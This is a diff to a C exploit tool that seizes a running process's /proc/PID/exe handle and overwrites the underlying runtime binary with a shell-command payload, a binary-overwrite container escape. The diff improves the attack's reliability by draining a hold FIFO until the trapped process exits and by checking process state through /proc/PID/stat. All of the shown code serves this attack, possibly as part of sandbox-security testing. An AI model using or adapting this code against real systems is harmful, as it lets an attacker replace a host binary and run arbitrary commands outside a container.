@@ -9,7 +9,8 @@
  *   exe INTERP HOLD SECS PAYLOAD
  *                           wait up to SECS for a process started through the
  *                           trap, hold its /proc/PID/exe (and every fd it has
- *                           open that is the same file), let it go, then try
+ *                           open that is the same file), let it go (reading HOLD
+ *                           until it has gone), then try
  *                           for 10 s to open the held file for writing and put
  *                           PAYLOAD (a shell line) in it.
  *   setup COMM SECS         wait up to SECS for the next process named COMM (a runtime
@@ -96,13 +97,30 @@ static pid_t find_trapped(const char* interp)
     return found;
 }
 
-static void release(const char* hold)
+/* Whether the process has exited (a zombie counts: its code no longer runs). */
+static int gone(pid_t pid)
+{
+    char path[64], stat[256];
+    snprintf(path, sizeof path, "/proc/%d/stat", pid);
+    if (read_small(path, stat, sizeof stat) <= 0)
+        return 1;
+    const char* end = strrchr(stat, ')');
+    return !end || end[1] == 0 || end[2] == 'Z' || end[2] == 'X';
+}
+
+/* Reads the hold FIFO until the trapped process has gone, so that its open
+ * for writing succeeds whenever it comes (it may not have got there yet). */
+static void release(const char* hold, pid_t pid, double deadline)
 {
     int fd = open(hold, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
-    if (fd >= 0) {
-        usleep(200000); /* let the writer see a reader, then go */
-        close(fd);
+    char buf[512];
+    while (fd >= 0 && !gone(pid) && now() < deadline) {
+        while (read(fd, buf, sizeof buf) > 0)
+            ;
+        usleep(10000);
     }
+    if (fd >= 0)
+        close(fd);
 }
 
 /* Tries until the deadline: the file is busy (ETXTBSY) while anything runs it. */
@@ -151,7 +169,7 @@ static int attack_exe(const char* interp, const char* hold, int secs, const char
     struct stat st;
     if (exe < 0 || fstat(exe, &st) != 0) {
         printf("held exe: errno=%s\n", err_name(errno));
-        release(hold);
+        release(hold, pid, deadline);
         return 1;
     }
     printf("held exe: pid=%d size=%lld\n", pid, (long long)st.st_size);
@@ -170,7 +188,7 @@ static int attack_exe(const char* interp, const char* hold, int secs, const char
         else if (fd >= 0)
             close(fd);
     }
-    release(hold);
+    release(hold, pid, deadline);
     deadline = now() + 10; /* the file is busy until every runtime process running it has gone */
     int rc = overwrite(exe, "exe", deadline, payload);
     if (held_fd >= 0)
@@ -196,7 +214,7 @@ static int try_open(pid_t pid, const char* entry)
         while (err && (e = readdir(d))) {
             if (e->d_name[0] == '.')
                 continue;
-            char link[96];
+            char link[320];
             snprintf(link, sizeof link, "%s/%s", path, e->d_name);
             int fd = open(link, O_PATH | O_CLOEXEC);
             err = fd < 0 ? errno : 0;
